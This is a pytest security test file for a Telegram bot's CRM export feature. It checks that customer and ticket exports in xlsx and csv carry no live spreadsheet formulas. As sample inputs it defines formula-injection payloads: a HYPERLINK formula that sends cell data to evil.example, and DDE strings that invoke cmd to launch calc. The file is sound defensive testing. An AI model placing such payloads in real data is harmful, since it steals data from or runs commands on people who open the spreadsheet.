"""Exports never carry a live formula: a Telegram user named `=HYPERLINK(...)` who sends one
request is a lead in the pool, and every export path shows their name as text."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import App
from bot.cli import main
from crm.models import Customer
from tests.conftest import Transcript
from tests.security.helpers import new_request, send, unthrottle, user_id

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
EVIL_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


async def _lead(app: App) -> Customer:
    unthrottle(app)
    await new_request(app, 990001, EVIL, EVIL_TEXT)
    async with app.sessions() as s, s.begin():
        lead = await s.scalar(select(Customer).where(Customer.name == EVIL))
        assert lead is not None  # the request made them a lead, name as sent
        lead.address, lead.industry = "-2+3+cmd|' /C calc'!A0", "+SUM(A1)"
        return lead


def _check_xlsx(data: bytes) -> int:
    """Every sheet (the summary sheet comes first, then one per kind)."""
    seen = 0
    book = load_workbook(io.BytesIO(data))
    for row in (r for sheet in book.worksheets for r in sheet.iter_rows()):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(STARTS) or cell.value.lstrip("+-").isdigit(), (
                    cell.coordinate,
                    cell.value,
                )
                if EVIL in cell.value or EVIL_TEXT in cell.value:
                    assert cell.value.startswith("'")
                    seen += 1
    return seen


def _check_csv(data: bytes) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(STARTS) or value.lstrip("+-").isdigit(), value
            if EVIL in value or EVIL_TEXT in value:
                assert value.startswith("'")
                seen += 1
    return seen


async def test_in_chat_export_is_inert(app: App, chat: Transcript) -> None:
    await _lead(app)
    uid = await user_id(app, "admin")
    await send(app, uid, text="/export")
    outs = await send(app, uid, callback="~exp.kind:customers")
    documents = [o.document for o in outs if o.document is not None]
    assert len(documents) == 1
    assert _check_xlsx(documents[0]) == 1
    # The request's text in the tickets export, too.
    await send(app, uid, text="/export")
    await send(app, uid, callback="~exp.kind:tickets")
    outs = await send(app, uid, callback="~exp.period:all")
    documents = [o.document for o in outs if o.document is not None]
    assert len(documents) == 1 and _check_xlsx(documents[0]) == 2


async def test_command_line_export_is_inert(
    app: App, chat: Transcript, db_url: str, tmp_path: Path
) -> None:
    await _lead(app)
    for fmt, check, want in (("csv", _check_csv, 1), ("xlsx", _check_xlsx, 1)):
        out = tmp_path / f"customers.{fmt}"
        args = ["export", "customers", "--format", fmt, "--out", str(out), "--db", db_url]
        assert await asyncio.to_thread(main, args) == 0  # the CLI runs its own event loop
        assert check(out.read_bytes()) == want
    out = tmp_path / "tickets.csv"
    args = ["export", "tickets", "--out", str(out), "--db", db_url]
    assert await asyncio.to_thread(main, args) == 0
    assert _check_csv(out.read_bytes()) == 2
